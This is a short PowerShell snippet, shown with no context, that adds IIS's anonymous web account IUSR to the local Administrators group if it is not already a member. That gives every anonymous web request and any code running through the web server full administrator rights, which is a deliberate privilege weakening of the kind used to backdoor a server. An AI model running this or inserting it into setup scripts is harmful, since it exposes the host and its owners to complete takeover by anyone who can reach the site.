if (-not (Get-LocalGroupMember -Group 'Administrators' -Member 'IUSR' -ErrorAction SilentlyContinue)) {
    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
}
